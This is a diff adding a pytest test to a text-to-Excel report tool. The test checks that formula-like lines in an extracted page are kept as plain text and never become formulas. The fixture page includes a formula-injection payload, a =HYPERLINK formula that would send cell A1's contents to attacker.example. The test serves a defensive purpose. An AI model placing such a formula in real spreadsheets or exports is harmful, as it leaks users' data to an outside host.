@@ -601,6 +601,32 @@ def test_formula_like_text_is_stored_as_text(crafted, wb_en):
         assert c.data_type == "s"
 
 
+CRAFTED_PAGE = """\
+=HYPERLINK("http://attacker.example/?leak="&A1,"Projekts Nr. LLI-999") (EvilProject) Nr. LLI-999
+
+=1+2 Projekta kopējais budžets ir 10 000.00 EUR, t.sk. 8 500.00 EUR (85%) Eiropas Reģionālā attīstības fonda (ERAF) finansējums.
+
+@SUM(A1:A9) Projekta īstenošanas laiks: no 2020.gada 1.jūlija līdz 2022. gada 30.novembrim.
+
++371 63005560 Projekts kļūs pieejams vismaz 50 cilvēkiem.
+"""
+
+
+def test_crafted_input_page_stays_text(tmp_path):
+    """A page whose lines look like formulas, through extraction into the workbook."""
+    (tmp_path / "in").mkdir()
+    (tmp_path / "in" / "crafted.txt").write_text(CRAFTED_PAGE, encoding="utf-8")
+    t = socreport.extract(tmp_path / "in")
+    path = excel.write_workbook(t, tmp_path / "crafted.xlsx")
+    wb = openpyxl.load_workbook(path)
+    sentences = [c for _, c in _all_string_cells(wb) if c.column_letter and c.value.startswith(("=", "@", "+"))]
+    starts = {c.value[:5] for c in sentences}
+    assert {"=HYPE", "=1+2 ", "@SUM(", "+371 "} <= starts
+    assert all(c.data_type == "s" for c in sentences)
+    with zipfile.ZipFile(path) as z:
+        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
+
+
 def test_no_formulas_anywhere(wb_en, wb_lv, books):
     for wb in (wb_en, wb_lv):
         for ws in wb.worksheets:
